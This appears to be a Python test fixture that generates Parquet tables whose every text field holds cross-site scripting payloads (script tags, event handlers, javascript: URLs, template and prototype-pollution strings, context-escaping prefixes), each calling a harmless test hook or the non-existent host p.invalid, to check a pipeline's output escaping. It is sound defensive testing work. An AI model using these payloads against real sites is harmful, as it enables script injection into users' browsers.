"""Texts that try to run as a script or to fetch something, and tables that hold them in every field.

Each calls `ran`, which a browser under test listens to, or asks a host that does not exist.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from datetime import date, datetime
from itertools import cycle, islice, product
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq

from pipeline.schema import TABLES

HOST = "https://p.invalid"
# What runs or fetches by itself once it is markup; @ is its number.
ACTS = (
    "<script>ran('@')</script>",
    f"<script src='{HOST}/@.js'></script>",
    "<script type=module>ran('@')</script>",
    "<img src=x onerror=ran('@')>",
    f"<img src='{HOST}/@.png'>",
    f"<img srcset='{HOST}/@.png 1x'>",
    "<svg onload=ran('@')>",
    "<svg><script>ran('@')</script></svg>",
    "<svg><animate onbegin=ran('@') attributeName=x dur=1s>",
    f"<svg><image href='{HOST}/@.svg' /></svg>",
    f"<svg><use href='{HOST}/@.svg#a' /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran('@')>",
    "<body onload=ran('@')>",
    "<details open ontoggle=ran('@')>",
    "<input autofocus onfocus=ran('@')>",
    "<video><source onerror=ran('@')></video>",
    f"<video poster='{HOST}/@.png' autoplay>",
    f"<audio src='{HOST}/@.mp3' autoplay>",
    "<iframe srcdoc='<script>parent.ran(1)</script>'></iframe>",
    "<iframe src=\"javascript:parent.ran('@')\"></iframe>",
    f"<iframe src='{HOST}/@'></iframe>",
    f"<object data='{HOST}/@'></object>",
    f"<embed src='{HOST}/@'>",
    f"<link rel=stylesheet href='{HOST}/@.css'>",
    f"<link rel=prefetch href='{HOST}/@'>",
    f"<style>@import '{HOST}/@.css';</style>",
    f"<style>*{{background:url({HOST}/@.png)}}</style>",
    f"<div style=\"background:url('{HOST}/@.png')\">",
    f"<meta http-equiv=refresh content='0;url={HOST}/@'>",
    f"<base href='{HOST}/@/'>",
    f"<form action='{HOST}/@'><button autofocus onfocus=ran('@')>",
    "<marquee onstart=ran('@')>",
    "<a href=\"javascript:ran('@')\">x</a>",
    "<template><script>ran('@')</script></template><script>ran('@')</script>",
    "javascript:ran('@')",
    "data:text/html,<script>ran('@')</script>",
    "';ran('@');//",
    "\";ran('@');//",
    "`;${ran('@')};`",
    "{{constructor.constructor(\"ran('@')\")()}}",
    "\\u003cscript\\u003eran('@')\\u003c/script\\u003e",
    "&lt;script&gt;ran('@')&lt;/script&gt;",
    "＜script＞ran('@')＜/script＞",
    "__proto__",
    "constructor",
    "toString",
)
# What may come before it, to leave the place that it was put in.
EXITS = (
    "{}", "\"'>{}", "</script>{}", "</style></title></textarea>{}", "--><!-->{}", "]]>{}", "\u2028{}",
    "</SCRIPT\n>{}", "\" onmouseover=\"ran('@')\" x=\"{}", "新收案件5件{}",
)  # fmt: skip
_DAYS = {"period_start": date(2024, 1, 1), "period_end": date(2024, 2, 29)}


def find_payloads(count: int) -> Iterator[str]:
    """So many different payloads: every act by itself first, then behind every exit."""
    pairs = product(EXITS, ACTS)
    for number, (leave, act) in enumerate(islice(cycle(pairs), count)):
        again = f" {number}" if number >= len(EXITS) * len(ACTS) else ""
        yield leave.format(act).replace("@", str(number)) + again


def write_hostile(snapshot: Path, payloads: Sequence[str]) -> int:
    """Tables with an article for each payload, which all text fields hold; gives the number of fields."""
    fields = 0
    for name, schema in TABLES.items():
        rows = [_row(name, schema, number, payload) for number, payload in enumerate(payloads)]
        table = pa.Table.from_pylist(rows if name != "runs" else rows[:1], schema=schema)
        (snapshot / name).mkdir(parents=True)
        pq.write_table(table, snapshot / name / "part-0.parquet")
        fields += sum(pa.types.is_string(column.type) or pa.types.is_map(column.type) for column in schema)
    return fields


def _row(table: str, schema: pa.Schema, number: int, payload: str) -> dict[str, Any]:
    values = {column.name: _value(column, payload) for column in schema}
    text = f"{payload}\n{payload}"
    values |= {"article_id": f"{number}{payload}", "duplicate_of": f"0{payload}", "text": text, **_DAYS}
    values |= {"clean_chars": len(text), "raw_chars": len(text) + 9, "alignment": [{"clean": 0, "raw": 9}]}
    values |= {"start": 0, "end": len(payload), "raw_start": 9, "raw_end": 9 + len(payload)}
    for link in ("metric_id", "of_metric_id", "repeats_metric_id"):
        values[link] = f"{number}{payload}"
    values["similarity"] = values["confidence"] = 0.5
    if table == "sections":  # the first half of the text is a heading, all of it the section
        values |= {"end": len(text), "text": payload}
    return {name: value for name, value in values.items() if name in schema.names}


def _value(column: pa.Field, payload: str) -> Any:
    """A value for a column: the payload, where it holds text."""
    if pa.types.is_string(column.type):
        return payload
    if pa.types.is_map(column.type):
        return [(payload, 1)]
    if pa.types.is_boolean(column.type):
        return True
    if pa.types.is_integer(column.type) or pa.types.is_floating(column.type):
        return 1
    if pa.types.is_timestamp(column.type):
        return datetime(2024, 3, 5)
    return None
